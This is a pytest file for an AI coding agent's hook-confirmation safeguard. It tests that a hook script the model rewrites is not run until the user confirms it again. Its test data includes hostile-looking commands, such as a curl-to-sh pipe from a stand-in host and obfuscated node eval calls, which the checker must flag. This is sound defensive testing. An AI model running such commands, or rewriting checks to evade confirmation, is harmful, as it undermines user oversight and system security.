"""A confirmed hook runs only what the user confirmed: its files are compared at each start, however it names them."""

from __future__ import annotations

import os
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import agent_ls
from agent_ls.loop.events.types import ToolCallEnd, Warning
from agent_ls.services.permissions.command_files import cover
from tests.features.hooks.test_session import confirm, script, shell, write_hooks
from tests.library.sessions import call, options
from tests.support.fake_provider import FakeProvider, text
from tests.support.reports import reported

pytestmark = [
    pytest.mark.req("T15", "X4"),
    pytest.mark.skipif(os.name == "nt", reason="the hooks of these tests are POSIX commands"),
]

SPELLINGS = [
    "./check.sh",
    "./check.sh; exit 0",
    "./check.sh||true",
    "./check.sh && true",
    "./check.sh | cat",
    '"${CLAUDE_PROJECT_DIR}/check.sh"',
    "$CLAUDE_PROJECT_DIR/check.sh",
    '"$AGENT_LS_PROJECT_DIR"/check.sh',
    "cd tools && ../check.sh",
    "cd tools; sh ../check.sh",
    "bash -c ./check.sh",
    "bash -c 'bash -c ./check.sh'",
    "sh < check.sh",
    "cat check.sh | sh",
    ". ./check.sh",
    "source ./check.sh",
    "eval ./check.sh",
    "env X=1 ./check.sh",
    "exec ./check.sh",
    "command ./check.sh",
    "nice ./check.sh",
    "timeout 20 ./check.sh",
    "sh -eu check.sh",
    "if [ -x check.sh ]; then ./check.sh; fi",
    "for f in check.sh; do ./$f; done",
    "f=check.sh; ./$f",
    "f() { ./check.sh; }; f",
    "trap ./check.sh EXIT",
    "$(cat name)",
    "./*.sh",
    "`echo ./check.sh`",
    "'./check.sh'",
    "\\./check.sh",
    './"check".sh',
    "! ./check.sh || true",
    "(./check.sh) > log",
    "echo x | xargs ./check.sh",
    "./linked.sh",
    "./tools/../check.sh",
    "find . -name check.sh -exec {} \\;",
    "awk 'BEGIN { system(\"./check.sh\") }'",
    "python3 -c 'import os; os.system(\"./check.sh\")'",
    'r="$(pwd)"; "$r/check.sh"',
]
OTHER_SPELLINGS = [
    pytest.param(command, marks=pytest.mark.group("sweeps"))
    for command in SPELLINGS
    if command not in SPELLINGS[::4]
]


def check_script(out: Path, word: str) -> str:
    return f"#!/bin/sh\necho {word} >> {shlex.quote(str(out))}\n"


def make_project(tmp_path: Path, command: str, event: Any = "PreToolUse") -> tuple[Path, Path]:
    """Create a project with `check.sh`, and a confirmed hook that runs it. Return the project and the output file."""
    project, out = tmp_path / "project", tmp_path / "out"
    (project / "tools").mkdir(parents=True)
    (project / "check.sh").write_text(check_script(out, "old"))
    (project / "check.sh").chmod(0o755)
    (project / "linked.sh").symlink_to("check.sh")
    (project / "name").write_text("./check.sh")
    write_hooks(project / ".agent-ls/hooks.json", **{event: ("Bash", command)})
    confirm(tmp_path / "state", project)
    return project, out


async def calls(
    tmp_path: Path, *given: Any, mode: str = "edits", approve: Callable[[Any], bool] = lambda request: False
) -> tuple[list[ToolCallEnd], list[str]]:
    model = FakeProvider([*given, [text("Done.")]])
    chosen: Any = {"mode": mode, "approve": approve, "trusted": True, "personal": True}
    async with agent_ls.open_session(**options(tmp_path, model, **chosen)) as session:
        events = [event.data async for event in session.run("Do it.")]
    ends = [event for event in events if isinstance(event, ToolCallEnd)]
    return ends, [event.message for event in events if isinstance(event, Warning)]


READ = call("read_file", file_path="check.sh")


def overwrite(out: Path, word: str = "new") -> Any:
    return call("write_file", file_path="check.sh", content=check_script(out, word))


@pytest.mark.report(
    "NousResearch/hermes-agent#57558", "NousResearch/hermes-agent#57697", "google-gemini/gemini-cli#17255"
)
@pytest.mark.parametrize("command", [*SPELLINGS[::4], *OTHER_SPELLINGS])
async def test_a_script_that_the_model_rewrites_does_not_run_at_the_next_call(
    tmp_path: Path, command: str
) -> None:
    _, out = make_project(tmp_path, command)
    asked: list[str] = []

    def approve(request: agent_ls.ApprovalRequested) -> bool:
        asked.append(request.tool)
        return request.tool == "write_file"

    given = (shell("echo one"), READ, overwrite(out), shell("echo two"))
    ends, warnings = await calls(tmp_path, *given, mode="full", approve=approve)
    assert out.read_text() == "old\n"
    assert [end.is_error for end in ends] == [False, False, False, True]
    assert "shell" in asked and [it for it in warnings if "did not run" in it]


async def test_a_hook_that_changed_does_not_run_in_the_next_message_until_it_is_confirmed(
    tmp_path: Path,
) -> None:
    project, out = make_project(tmp_path, "./check.sh || exit 0")
    (project / "check.sh").write_text(check_script(out, "new"))
    ends, warnings = await calls(tmp_path, shell("echo one"))
    assert not out.exists() and ends[0].is_error and [it for it in warnings if "confirm" in it]
    confirm(tmp_path / "state", project)
    ends, _ = await calls(tmp_path, shell("echo one"))
    assert out.read_text() == "new\n" and not ends[0].is_error


async def test_a_hook_that_the_user_confirms_during_a_turn_runs_again(tmp_path: Path) -> None:
    project, out = make_project(tmp_path, "./check.sh")

    def approve(request: agent_ls.ApprovalRequested) -> bool:
        if request.tool == "shell":
            confirm(tmp_path / "state", project)
        return True

    given = (READ, overwrite(out), shell("echo one"), shell("echo two"))
    await calls(tmp_path, *given, mode="full", approve=approve)
    assert out.read_text() == "new\n"


@pytest.mark.req("X5")
async def test_a_file_that_a_confirmed_hook_runs_is_asked_about_in_mode_edits(tmp_path: Path) -> None:
    _, out = make_project(tmp_path, "cd tools && ../check.sh")
    asked: list[str] = []

    def approve(request: agent_ls.ApprovalRequested) -> bool:
        asked.append(request.tool)
        return False

    ends, _ = await calls(
        tmp_path,
        READ,
        overwrite(out),
        call("read_file", file_path="linked.sh"),
        call("write_file", file_path="linked.sh", content="x"),
        call("write_file", file_path="other.sh", content="x"),
        approve=approve,
    )
    assert asked == ["write_file", "write_file"]
    assert [end.is_error for end in ends] == [False, True, False, True, False]


@pytest.mark.parametrize("command", ["./check.sh", '"$CLAUDE_PROJECT_DIR"/check.sh', "sh $(echo check.sh)"])
async def test_a_hook_of_the_user_that_runs_a_file_of_the_project_needs_a_confirmation(
    tmp_path: Path, command: str
) -> None:
    project, out = make_project(tmp_path, "true")
    (project / ".agent-ls/hooks.json").unlink()
    write_hooks(tmp_path / "state/hooks.json", PreToolUse=("Bash", command))
    _, warnings = await calls(tmp_path, shell("echo one"))
    assert not out.exists() and [it for it in warnings if "confirm" in it]
    confirm(tmp_path / "state", project)
    await calls(tmp_path, shell("echo one"))
    assert out.read_text() == "old\n"


async def test_a_hook_of_the_user_needs_a_confirmation_after_its_script_changed(tmp_path: Path) -> None:
    out = tmp_path / "out"
    command = script(tmp_path / "mine", f"open({str(out)!r}, 'a').write('x')")
    write_hooks(tmp_path / "state/hooks.json", PreToolUse=("Bash", command))
    await calls(tmp_path, shell("echo one"))
    assert out.read_text() == "x"
    with next((tmp_path / "mine").glob("hook*")).open("a") as file:
        file.write("\nprint()\n")
    for _ in range(2):  # also in a second session
        ends, _ = await calls(tmp_path, shell("echo one"))
        assert ends[0].is_error and out.read_text() == "x"
    confirm(tmp_path / "state", tmp_path / "project")
    await calls(tmp_path, shell("echo one"))
    assert out.read_text() == "xx"


async def test_a_file_that_a_hook_writes_is_not_compared(tmp_path: Path) -> None:
    _, out = make_project(tmp_path, "./check.sh >> log 2>&1; date > stamp")
    await calls(tmp_path, shell("echo one"), shell("echo two"), shell("echo three"))
    assert out.read_text() == "old\n" * 3


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("python3 -c 'import json'", "json.py"),
        ("jq -r .tool_input.file_path | xargs npx prettier --write", ".prettierrc.mjs"),
        ("npx stylelint a.css", "stylelint.config.js"),
        ("npx eslint --fix a.js", ".eslintrc.cjs"),
        ("jq -r .tool_input.file_path | xargs rubocop -A", ".rubocop.yml"),
        ("mypy a.py", "mypy.ini"),
        ("make -C '[a]'", "[a]/Makefile"),
    ],
)
def test_a_new_file_that_a_checker_runs_changes_the_hook(tmp_path: Path, command: str, name: str) -> None:
    before = cover(command, str(tmp_path), is_users=False)
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_text("plugins")
    assert not before.doubt and cover(command, str(tmp_path), is_users=False).digest != before.digest


@pytest.mark.parametrize(
    ("command", "is_doubted", "noted"),
    [
        ("npm run lint", False, "npm"),
        ("make check", False, "make"),
        ("curl -s https://x.example | sh", True, ""),
        ("sh $FILE", True, ""),
        ("python3 -c 'import check'", True, ""),
        ("./check.sh", False, ""),
        reported(
            "adobe/react-spectrum#10048",
            'jq -r \'.tool_input.file_path // empty\' | { read -r f; [[ -n "$f" ]] && oxfmt "$f"; } || true',
            False,
            "",
        ),
        reported(
            "Doenet/DoenetML#1037",
            'jq -r .tool_input.file_path | { read -r f; case "$f" in "$CLAUDE_PROJECT_DIR"/*) '
            'npx prettier --write --ignore-unknown "$f";; esac; }',
            False,
            "npx",
        ),
        ("jq -r .tool_input.file_path | xargs -I{} npx prettier --write {}", False, "npx"),
        ('f=$(jq -r .x); if [[ "$f" == *.py ]]; then uv run ruff format "$f"; fi', False, "uv"),
        ('gofmt -w "$(jq -r .tool_input.file_path)" >> "$HOME/log"', False, ""),
        (
            'python3 -c \'import json, sys; sys.exit(2 if ".env" in json.load(sys.stdin)["x"] else 0)\'',
            False,
            "",
        ),
        ("node -e 'process.exit(JSON.parse(require(\"fs\").readFileSync(0)).x ? 2 : 0)'", True, ""),
        ("node -p 'JSON.stringify(process.versions)'", False, ""),
        ('node -e \'[].map.constructor(require("fs").readFileSync("x"))()\'', True, ""),
        ('node -e \'globalThis["ev" + "al"](require("fs").readFileSync("x", "utf8"))\'', True, ""),
        ("python3 -c 'import sys; sys.path.insert(0, \"x\"); import platform'", True, ""),
        ("python3 -c 'import os; os.startfile(\"x\")'", True, ""),
        ("osascript -e 'display notification \"done\"'", False, ""),
        ("jq -r .tool_input.command | xargs npx prettier", True, "npx"),
        ("npx eslint $(cat list.txt)", True, "npx"),
        ("git diff --name-only | xargs npx eslint", True, "npx"),
        ("git ls-files | xargs gofmt -w", False, ""),
        ("cat a | jq -r .tool_input.file_path | xargs prettier", True, "prettier"),
        ("jq -r .tool_input.file_path a | xargs rg x", True, ""),
        ("read -r f; prettier $f", True, "prettier"),
        ("xargs prettier", True, "prettier"),
        ("f=$(< a); prettier $f", True, "prettier"),
        ("jq -r .tool_input.file_path | xargs cat | xargs prettier", True, "prettier"),
        ('f=$(jq -r .tool_input.file_path); npx eslint --fix "$f"', False, "npx"),
        ("jq -r .tool_input.file_path | grep -E '[.]ts$' | xargs -r npx prettier --write", False, "npx"),
        ("jq -r .tool_input.file_path | xargs -n1 sh", True, ""),
        ('prettier --config "$f" a.js', True, "prettier"),
        ('gofmt -w "$(sh $FILE)"', True, ""),
        ('ruff check "$f" || python3 "$f"', True, ""),
        ("python3 -c 'import json, subprocess'", True, ""),
        ("node -e 'require(\"./x\")'", True, ""),
        ('osascript -e "display notification \\"a\\" with title \\"b\\""', False, ""),
        ("osascript -e 'display notification (do  shell script \"./x\")'", True, ""),
        ('osascript -e "display notification \\"$(sh ./x)\\""', True, ""),
        ("osascript -e 'do shell script \"./x\"'", True, ""),
    ],
)
def test_what_is_not_compared_is_displayed(
    tmp_path: Path, command: str, is_doubted: bool, noted: str
) -> None:
    found = cover(command, str(tmp_path))
    assert bool(found.doubt) == is_doubted and noted in found.note and bool(noted) == bool(found.note)


@pytest.mark.parametrize(
    "made",
    ["package.json", "tools/run/__init__.py", "tools/run.py", "bin/own-check", "check.sh"],
)
def test_a_file_that_appears_later_changes_the_digest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, made: str
) -> None:
    monkeypatch.setenv("PATH", f"{tmp_path}/bin{os.pathsep}{os.environ['PATH']}")
    commands = ("npm run x", "python3 -m tools.run", "python3 -m tools.run", "own-check", "[ -e check.sh ]")
    before = [cover(command, str(tmp_path)).digest for command in commands]
    path = tmp_path / made
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("x")
    path.chmod(0o755)
    after = [cover(command, str(tmp_path)).digest for command in commands]
    assert before != after


def test_a_large_script_is_compared_to_its_end(tmp_path: Path) -> None:
    path = tmp_path / "check.sh"
    path.write_bytes(b"#" * 5_000_000)
    before = cover("./check.sh", str(tmp_path)).digest
    with path.open("ab") as file:
        file.write(b"\nevil\n")
    assert cover("./check.sh", str(tmp_path)).digest != before


def test_a_folder_with_a_blank_in_its_name(tmp_path: Path) -> None:
    folder = tmp_path / "my project"
    folder.mkdir()
    (folder / "check.sh").write_text("x")
    found = cover('"$CLAUDE_PROJECT_DIR"/check.sh', str(folder))
    assert str(folder / "check.sh") in dict(found.files) and not found.doubt
